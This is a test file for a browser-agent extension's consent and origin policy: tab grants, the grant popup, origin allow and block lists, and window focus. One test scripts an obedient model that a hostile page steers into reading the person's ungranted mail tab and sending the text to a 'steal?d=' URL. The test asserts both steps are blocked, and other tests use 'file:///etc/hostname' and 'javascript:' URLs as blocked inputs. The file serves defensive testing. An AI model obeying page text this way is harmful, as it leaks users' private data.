// Consent and the origin policy (issue #39, extension/services/consent.js): the person's tabs are read
// only as they grant, the agent's tabs go only where the policy allows, and a tab an agent
// tab's page opens is the agent's. The obedient scripted model does whatever page text says;
// it runs directly, through the Bridge's HTTP API, the CLI and MCP (pi: pi-tests/).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { nextPage, openTab, openUserTab, closeTab } from './harness.mjs';
import { withBridge, startBridge, until } from './bridge-harness.mjs';
import { mcpClient } from './mcp-client.mjs';
import { pccBin } from './bridge-harness.mjs';

let server, b, br;
withBridge((c) => ({ server, b, br } = c));

const setPolicy = (p) => b.worker.evaluate((p) => globalThis.pcc.consent.setPolicy(p), p);
const DEFAULTS = { readUserTabs: 'granted', sites: [], allowedOrigins: [], blockedOrigins: [], allowLocal: false };
const READS = [
  ['browser_snapshot', {}], ['browser_accessibility_snapshot', {}], ['browser_find', { text: 'Inbox' }], ['browser_dom_cua', {}],
  ['browser_extract', {}], ['browser_screenshot', {}], ['browser_wait_for', { text: 'Inbox', timeout: 100 }],
  ['browser_locator', { target: { text: 'Inbox' }, read: 'text' }], ['browser_claim_tab', {}], ['browser_console', {}], ['browser_network', {}],
];

/** The person's mail: a tab of theirs holding what page text will ask the model to carry out. */
const openMail = (grant = false) => openUserTab(b, server, 'article.html', { grant });

test("a person's tab is not read, claimed or listed in full until they grant it; a tab grant, a site grant and each policy do what they say", async () => {
  await setPolicy(DEFAULTS);
  const { page, tabId } = await openMail();
  for (const [method, params] of READS) {
    const r = await b.call(method, { tabId, ...params });
    assert.equal(r.error?.code, 'BROWSER_TAB_NOT_GRANTED', `${method}: ${JSON.stringify(r).slice(0, 200)}`);
    assert.match(r.error.hint, /ask them to grant it/);
  }
  // Without a tabId the call addresses the active tab: the person's, so refused too.
  await page.bringToFront();
  assert.equal((await b.call('browser_snapshot', {})).error?.code, 'BROWSER_TAB_NOT_GRANTED');
  // Listed by its site alone: no title, no path.
  const row = (await b.call('browser_tabs')).tabs.find((t) => t.id === tabId);
  assert.deepEqual([row.title, row.url, row.granted, row.owner], ['', server.origin, false, 'user'], JSON.stringify(row));
  const selected = await b.call('browser_selected_tab', { tabId });
  assert.deepEqual([selected.tab.title, selected.tab.url, selected.tab.granted], ['', server.origin, false], JSON.stringify(selected));
  const doctor = await b.call('browser_doctor', { tabId });
  assert.ok(doctor.notes.some((p) => p.code === 'BROWSER_TAB_NOT_GRANTED'), JSON.stringify(doctor));
  assert.equal(doctor.ok, true, 'a tab the person did not grant breaks nothing: a note, not a problem');

  // The person grants the tab (the popup's first button): every read works, the claim too.
  await b.grant(tabId);
  const read = await b.call('browser_snapshot', { tabId });
  assert.ok(!read.error, JSON.stringify(read.error));
  assert.ok((await b.call('browser_tabs')).tabs.find((t) => t.id === tabId).title.length > 0);
  // A grant holds while the tab stays on its site: another site is not granted.
  await page.goto(server.crossUrl('article.html'));
  assert.equal((await b.call('browser_snapshot', { tabId })).error?.code, 'BROWSER_TAB_NOT_GRANTED');
  // A site grant (the popup's second button, or the options page) covers every tab of the site.
  await setPolicy({ sites: [server.crossUrl('').replace(/\/$/, '')] });
  assert.ok(!(await b.call('browser_snapshot', { tabId })).error);
  // `none`: not even a granted site's tabs, and the person's tabs are not listed at all.
  await setPolicy({ readUserTabs: 'none' });
  assert.equal((await b.call('browser_snapshot', { tabId })).error?.code, 'BROWSER_TAB_NOT_GRANTED');
  assert.ok(!(await b.call('browser_tabs')).tabs.some((t) => t.id === tabId));
  // `all` (unattended use): every tab.
  await setPolicy({ readUserTabs: 'all', sites: [] });
  assert.ok(!(await b.call('browser_snapshot', { tabId })).error);
  await setPolicy(DEFAULTS);
  await page.close();
});

test("the toolbar popup grants the tab or the site it opens over, and takes the grant back", async () => {
  await setPolicy(DEFAULTS);
  const { page, tabId } = await openMail();
  const popup = await b.context.newPage();
  const extensionId = new URL(b.worker.url()).host;
  await popup.goto(`chrome-extension://${extensionId}/ui/popup.html?tab=${tabId}`);
  await popup.getByText('The agent may not read this tab.').waitFor();
  // Only the buttons that apply are shown (a `hidden` button stays hidden, whatever the style).
  const shown = async () => (await Promise.all(['#grant-tab', '#grant-site', '#revoke'].map((s) => popup.locator(s).isVisible()))).join(',');
  assert.equal(await shown(), 'true,true,false', 'nothing granted: no "Stop" button');
  await popup.getByRole('button', { name: 'Let the agent read this tab' }).click();
  await popup.getByText('The agent may read this tab.').waitFor();
  assert.equal(await shown(), 'false,true,true', 'the tab granted: no "read this tab" button');
  assert.ok(!(await b.call('browser_snapshot', { tabId })).error, 'granted from the popup');
  await popup.getByRole('button', { name: 'Stop the agent reading this tab and site' }).click();
  await popup.getByText('The agent may not read this tab.').waitFor();
  assert.equal((await b.call('browser_snapshot', { tabId })).error?.code, 'BROWSER_TAB_NOT_GRANTED');
  await popup.getByRole('button', { name: 'Let the agent read this site' }).click();
  await popup.getByText('The agent may read this tab.').waitFor();
  assert.ok(!(await b.call('browser_find', { tabId, text: 'a' })).error, 'the site grant');
  await popup.getByRole('button', { name: 'Stop the agent reading this tab and site' }).click();
  await popup.close();
  await page.close();
  await setPolicy(DEFAULTS);
});

/**
 * The obedient model: it reads its own tab, does what the page's text says (read the tab it
 * names, then open the address it names with what it read) and reports every call's
 * outcome: `{method: code or 'ok'}`. `call(method, params)` → `{error?: {code}}`.
 */
async function obey(call, tabId) {
  const outcomes = {};
  const own = await call('browser_snapshot', { tabId });
  const text = own.text ?? JSON.stringify(own);
  const victim = Number(text.match(/read tab (\d+)/)?.[1]);
  const exfil = text.match(/then open (\S+?)\?d=/)?.[1];
  const stolen = await call('browser_snapshot', { tabId: victim });
  outcomes.read = stolen.error?.code ?? 'ok';
  const carried = stolen.error ? text : (stolen.text ?? JSON.stringify(stolen));
  const opened = await call('browser_tab_open', { url: `${exfil}?d=${encodeURIComponent(carried.slice(0, 500))}` });
  outcomes.open = opened.error?.code ?? 'ok';
  const moved = await call('browser_navigate', { tabId, url: `${exfil}?d=${encodeURIComponent(carried.slice(0, 500))}` });
  outcomes.navigate = moved.error?.code ?? 'ok';
  return outcomes;
}

test('a hostile page steering an obedient model: no read of the ungranted tab, no request to an unlisted origin, on every surface', async () => {
  // The person lets the agent's tabs reach this site only.
  await setPolicy({ ...DEFAULTS, allowedOrigins: ['127.0.0.1'] });
  const { page: mail, tabId: victim } = await openMail();
  const exfil = server.crossUrl('steal');
  const before = server.requestsTo('localhost').length;
  const { page, tabId } = await openTab(b, server, `steer.html?victim=${victim}&exfil=${encodeURIComponent(exfil)}`);
  await page.waitForTimeout(300);
  const mcp = mcpClient(pccBin, ['mcp'], { env: br.env });
  await mcp.rpc('initialize', { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'consent-test', version: '0' } });
  mcp.notify('notifications/initialized');
  const surfaces = {
    direct: (m, p) => b.call(m, p),
    bridge: async (m, p) => (await br.call(m, p)).json,
    cli: async (m, p) => {
      const r = await br.cli('call', m, JSON.stringify(p));
      const code = r.code === 0 ? null : (r.stderr + r.stdout).match(/\b(BROWSER_[A-Z_]+|INVALID_REQUEST)\b/)?.[1];
      return code ? { error: { code } } : { text: r.stdout };
    },
    mcp: async (m, p) => {
      const r = (await mcp.rpc("tools/call", { name: m, arguments: p })).result;
      const text = r.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');
      return r.isError ? { error: { code: text.match(/"code":"([A-Z_]+)"/)?.[1] } } : { text };
    },
  };
  try {
    for (const [name, call] of Object.entries(surfaces)) {
      assert.deepEqual(await obey(call, tabId), { read: 'BROWSER_TAB_NOT_GRANTED', open: 'BROWSER_ORIGIN_BLOCKED', navigate: 'BROWSER_ORIGIN_BLOCKED' }, name);
    }
    // The page's own image and fetch to that origin were blocked in the agent's tab too.
    assert.deepEqual(server.requestsTo('localhost').slice(before), [], 'a request reached the unlisted origin');
    // The same page in the person's own tab is the person's business: its requests go out.
    const own = await b.context.newPage();
    await own.goto(server.url(`steer.html?exfil=${encodeURIComponent(exfil)}`));
    await until('the person\'s tab to load its image', async () => server.requestsTo('localhost').length > before);
    await own.close();
  } finally {
    mcp.close();
    await setPolicy(DEFAULTS);
  }
  await closeTab(b, page, tabId);
  await mail.close();
});

test('the origin policy: file: and other local schemes off by default, blocked origins refused with the policy named, allowed ones only', async () => {
  await setPolicy(DEFAULTS);
  const local = await b.call('browser_tab_open', { url: 'file:///etc/hostname' });
  assert.equal(local.error?.code, 'BROWSER_ORIGIN_BLOCKED', JSON.stringify(local).slice(0, 200));
  assert.match(local.error.message, /allowLocal/);
  for (const url of ['chrome://settings/', 'javascript:alert(1)', 'data:text/html,<p>x']) {
    assert.equal((await b.call('browser_tab_open', { url })).error?.code, 'INVALID_REQUEST', url);
  }
  await setPolicy({ blockedOrigins: ['localhost'] });
  const blocked = await b.call('browser_tab_open', { url: server.crossUrl('basic.html') });
  assert.equal(blocked.error?.code, 'BROWSER_ORIGIN_BLOCKED');
  assert.match(blocked.error.message, /blockedOrigins: localhost/);
  assert.equal((await b.call('browser_download', { url: server.crossUrl('report.csv') })).error?.code, 'BROWSER_ORIGIN_BLOCKED');
  const { page, tabId } = await openTab(b, server, 'basic.html');
  const nav = await b.call('browser_navigate', { tabId, url: server.crossUrl('basic.html') });
  assert.equal(nav.error?.code, 'BROWSER_ORIGIN_BLOCKED');
  // A pattern with a scheme and port names exactly that origin.
  await setPolicy({ blockedOrigins: [], allowedOrigins: [server.origin] });
  assert.ok(!(await b.call('browser_navigate', { tabId, url: server.url('article.html') })).error);
  assert.equal((await b.call('browser_navigate', { tabId, url: server.url('basic.html').replace(/:\d+\//, ':1/') })).error?.code, 'BROWSER_ORIGIN_BLOCKED');
  // allowLocal opens file: URLs.
  await setPolicy({ allowedOrigins: [], allowLocal: true });
  const opened = await b.call('browser_navigate', { tabId, url: 'file:///etc/hostname' });
  assert.ok(!opened.error, JSON.stringify(opened.error));
  await setPolicy(DEFAULTS);
  await closeTab(b, page, tabId);
});

test("a tab an agent tab's page opens is the agent's: the click says so, browser_tabs names its opener, it is actionable", async () => {
  await setPolicy(DEFAULTS);
  const { page, tabId } = await openTab(b, server, `steer.html?partner=${encodeURIComponent(server.url('basic.html'))}`);
  const snap = await b.call('browser_snapshot', { tabId });
  const refOf = (state, re) => state.split('\n').find((l) => re.test(l)).match(/\[ref=(\w+)\]/)[1];
  for (const name of [/link "Open the partner offer"/, /button "Open in a popup"/]) {
    const [opened, click] = await Promise.all([nextPage(b.context), b.call('browser_click', { tabId, snapshotId: snap.snapshot.snapshotId, ref: refOf(snap.snapshot.state, name) })]);
    assert.ok(click.ok, JSON.stringify(click));
    const newId = await until('the new tab to be reported', async () => click.opened?.[0]?.id ?? (await b.call('browser_tabs')).tabs.find((t) => t.opener === tabId && t.url.endsWith('basic.html'))?.id);
    assert.equal(click.opened?.length, 1, `the click reports the tab it opened: ${JSON.stringify(click)}`);
    const row = (await b.call('browser_tabs')).tabs.find((t) => t.id === newId);
    assert.deepEqual([row.owner, row.opener], ['agent', tabId], JSON.stringify(row));
    await opened.waitForLoadState('load');
    // The agent acts on it without a claim.
    const inner = await b.call('browser_snapshot', { tabId: newId });
    const acted = await b.call('browser_click', { tabId: newId, snapshotId: inner.snapshot.snapshotId, ref: refOf(inner.snapshot.state, /button "Click me"/) });
    assert.ok(acted.ok, JSON.stringify(acted));
    await closeTab(b, opened, newId);
  }
  await closeTab(b, page, tabId);
});

test("the Bridge's configuration sets the policy for unattended use while it is linked", async () => {
  await setPolicy(DEFAULTS);
  const { page, tabId } = await openMail();
  const other = await startBridge(b, { args: ['--read-user-tabs', 'all', '--block-origin', 'localhost'] });
  try {
    assert.ok(!(await other.call('browser_snapshot', { tabId })).json.error, 'readUserTabs all from the Bridge');
    assert.equal((await other.call('browser_tab_open', { url: server.crossUrl('basic.html') })).json.error?.code, 'BROWSER_ORIGIN_BLOCKED');
  } finally {
    await other.close();
    await b.worker.evaluate(([p, t]) => globalThis.pcc.bridge.configure({ port: p, token: t }), [br.port, br.token()]);
    await br.connected();
  }
  // Back on a Bridge without a policy: the person's defaults hold again.
  assert.equal((await br.call('browser_snapshot', { tabId })).json.error?.code, 'BROWSER_TAB_NOT_GRANTED');
  await page.close();
});

test("while the person uses a window, the agent's new tab opens in a window of its own and never takes their tab or focus; active: true does", async () => {
  const { page, tabId: theirs } = await openMail(true);
  await page.bringToFront();
  const focused = () => b.worker.evaluate(async () => {
    const w = await chrome.windows.getLastFocused({ windowTypes: ['normal'] });
    const [t] = await chrome.tabs.query({ active: true, windowId: w.id });
    return { windowId: w.id, focused: w.focused, tabId: t.id };
  });
  const before = await focused();
  assert.deepEqual([before.focused, before.tabId], [true, theirs], 'the person is in their window');
  const [agentPage, opened] = await Promise.all([nextPage(b.context), b.call('browser_tab_open', { url: server.url('basic.html') })]);
  assert.ok(!opened.error, JSON.stringify(opened.error));
  assert.deepEqual(await focused(), before, "the person's window, tab and focus stay");
  const agentTab = await b.worker.evaluate((id) => chrome.tabs.get(id), opened.tab.id);
  assert.notEqual(agentTab.windowId, before.windowId, 'a window of its own');
  assert.equal(agentTab.active, true, 'the active, painting tab of that window');
  // A second tab joins the same agent window; calls without tabId address the agent's tab.
  const [agentPage2, second] = await Promise.all([nextPage(b.context), b.call('browser_tab_open', { url: server.url('article.html') })]);
  assert.equal(second.tab.windowId ?? (await b.worker.evaluate((id) => chrome.tabs.get(id), second.tab.id)).windowId, agentTab.windowId);
  const read = await b.call('browser_snapshot', {});
  assert.equal(read.tab?.id, second.tab.id, JSON.stringify(read).slice(0, 200));
  // active: true opens in the person's window and takes focus, as asked.
  const [agentPage3, asked] = await Promise.all([nextPage(b.context), b.call('browser_tab_open', { url: server.url('basic.html'), active: true })]);
  const placed = await b.worker.evaluate((id) => chrome.tabs.get(id), asked.tab.id);
  assert.deepEqual([placed.windowId, placed.active], [before.windowId, true]);
  for (const [p, t] of [[agentPage, opened], [agentPage2, second], [agentPage3, asked]]) await closeTab(b, p, t.tab.id);
  await page.close();
});
